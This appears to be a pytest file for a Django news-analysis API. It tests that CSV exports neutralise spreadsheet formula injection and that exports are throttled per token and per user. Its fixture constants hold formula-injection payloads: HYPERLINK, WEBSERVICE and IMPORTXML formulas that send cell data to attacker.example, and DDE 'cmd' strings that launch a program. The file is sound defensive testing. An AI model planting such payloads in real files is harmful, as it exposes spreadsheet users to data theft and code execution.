"""Exports are safe to open and limited per token (issue 18, point 5).

Every CSV export is read the way a spreadsheet splits it into cells (RFC 4180, the csv
module), and no text cell may start a formula: OWASP's rule (=, +, -, @, tab, carriage
return). The hostile values are in the data, so each export is seen neutralising them,
not merely leaving them out. Exports (CSV, JSON Lines, GraphML, GEXF) are throttled per
token; the refusal says when to retry.
"""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.core.cache import cache
from django.urls import reverse

from newsdesk.spreadsheet import FORMULA_START
from newsdesk.throttling import ExportRateThrottle
from tests.api.world import token_client
from tests.factories import (
    ArticleFactory,
    EntityFactory,
    MentionFactory,
    NoteFactory,
    OutletFactory,
    QuoteFactory,
    StanceFactory,
    UserFactory,
    polarity,
)

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
HOLDER = "+cmd|' /C calc'!A0"
TARGET = "@SUM(1+1)*cmd|' /C calc'!A0"
SPEAKER = "-2+3+cmd|' /C calc'!A0"
QUOTE = "=1+2 is what the minister wrote"
OUTLET = '=WEBSERVICE("http://attacker.example/")'
NOTE = '\t=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")'
BODY = f"Talks opened. {QUOTE}, the ministry said. The envoy disagreed."
HOSTILE = (TITLE, HOLDER, TARGET, SPEAKER, QUOTE, NOTE, OUTLET)


@pytest.fixture
def hostile():
    article = ArticleFactory(
        title=TITLE,
        body=BODY,
        outlet=OutletFactory(name=OUTLET),
        published_at=datetime(2026, 3, 2, 9, tzinfo=UTC),  # dated: on the timeline
    )
    holder = EntityFactory(name=HOLDER)
    speaker = EntityFactory(name=SPEAKER)
    target = EntityFactory(name=TARGET)
    MentionFactory(article=article, text=QUOTE, entity=speaker)
    quote = QuoteFactory(article=article, text=QUOTE, speaker=speaker, cue="said")
    StanceFactory(
        article=article,
        text=QUOTE,
        quote=quote,
        holder=holder,
        target_entity=target,
        target_text=TARGET,
        polarity=polarity("oppose"),
    )
    StanceFactory(
        article=article,
        text="The envoy disagreed",
        holder=speaker,
        target_entity=holder,
        target_text=HOLDER,
        polarity=polarity("support"),
    )
    StanceFactory(  # both actors on one target: a congruence tie
        article=article,
        text="The envoy",
        holder=speaker,
        target_entity=target,
        target_text=TARGET,
        polarity=polarity("oppose"),
    )
    NoteFactory(article=article, text=NOTE)
    return article


@pytest.fixture
def robot():
    return token_client(UserFactory(role="api-client", password=None))


CSV_EXPORTS = [
    reverse("api-article-list") + "?format=csv",
    reverse("api-entity-list") + "?format=csv",
    reverse("api-mention-list") + "?format=csv",
    reverse("api-quote-list") + "?format=csv",
    reverse("api-stance-list") + "?format=csv",
    reverse("api-note-list") + "?format=csv",
    reverse("api-annotation-list") + "?format=csv",
    reverse("api-analysis-matrix") + "?format=csv",
    reverse("api-analysis-network") + "?format=csv",
    reverse("api-analysis-network") + "?format=csv&mode=congruence",
    reverse("api-analysis-events") + "?format=csv",
    reverse("api-analysis-timeline") + "?format=csv",
    reverse("api-analysis-sources") + "?format=csv",
]


def body(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def spreadsheet_cells(text: str) -> list[str]:
    """The cells a spreadsheet makes of the CSV: RFC 4180 fields, quotes undone."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("url", CSV_EXPORTS)
def test_no_csv_export_has_a_cell_a_spreadsheet_would_run(hostile, robot, url):
    response = robot.get(url)
    assert response.status_code == 200, body(response)[:300]
    cells = spreadsheet_cells(body(response))
    formulas = [cell for cell in cells if cell.startswith(FORMULA_START) and not is_number(cell)]
    assert formulas == []
    # The hostile values were exported, behind a quote: neutralised, not dropped.
    neutralised = [cell for cell in cells if cell.startswith("'") and cell[1:2] in "=+-@\t"]
    assert neutralised, f"{url} exported none of the hostile values"
    for cell in neutralised:
        assert any(value in cell for value in HOSTILE) or cell[1:] in HOSTILE


def test_numbers_stay_numbers_in_csv(robot):
    """A negative weight is a number, not a formula: only text cells are touched."""
    from newsdesk.api import csv_lines

    text = "".join(csv_lines([{"weight": -4.0, "count": -1, "name": "-1 party"}]))
    assert spreadsheet_cells(text) == ["weight", "count", "name", "-4.0", "-1", "'-1 party"]


# -- the export throttle -----------------------------------------------------------------------


@pytest.fixture
def two_a_minute(monkeypatch):
    monkeypatch.setattr(ExportRateThrottle, "THROTTLE_RATES", {"export": "2/min"})
    cache.clear()


def test_exports_are_throttled_per_token_and_the_refusal_says_when_to_retry(hostile, two_a_minute):
    robot = token_client(UserFactory(role="api-client", password=None))
    other = token_client(UserFactory(role="api-client", password=None))
    url = reverse("api-quote-list")
    for fmt in ("csv", "jsonl"):
        response = robot.get(url, {"format": fmt})
        assert response.status_code == 200
        body(response)
    refused = robot.get(reverse("api-analysis-events"), {"format": "csv"})
    assert refused.status_code == 429
    retry = int(refused["Retry-After"])
    assert 0 < retry <= 60
    assert f"Expected available in {retry} second" in body(refused)
    # Pages in JSON are not exports: still answered.
    assert robot.get(url).status_code == 200
    # Another token has a count of its own.
    assert other.get(url, {"format": "csv"}).status_code == 200


def test_a_browser_session_is_limited_per_user(hostile, two_a_minute, client):
    client.force_login(UserFactory(role="analyst"))
    url = reverse("api-analysis-network")
    assert client.get(url, {"format": "graphml"}).status_code == 200
    assert client.get(url, {"format": "gexf"}).status_code == 200
    assert client.get(url, {"format": "csv"}).status_code == 429
    assert client.get(url).status_code == 200  # the JSON the page draws from
